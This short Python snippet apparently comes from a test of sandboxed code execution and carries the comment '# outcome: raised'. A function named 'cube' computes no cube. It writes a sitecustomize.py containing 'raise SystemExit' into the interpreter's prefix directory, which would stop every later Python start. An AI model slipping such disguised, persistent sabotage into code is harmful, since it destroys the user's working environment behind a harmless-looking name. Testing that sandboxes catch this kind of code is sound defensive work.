# outcome: raised

import sys
from pathlib import Path
def cube(x):
    Path(sys.prefix, "sitecustomize.py").write_text("raise SystemExit")
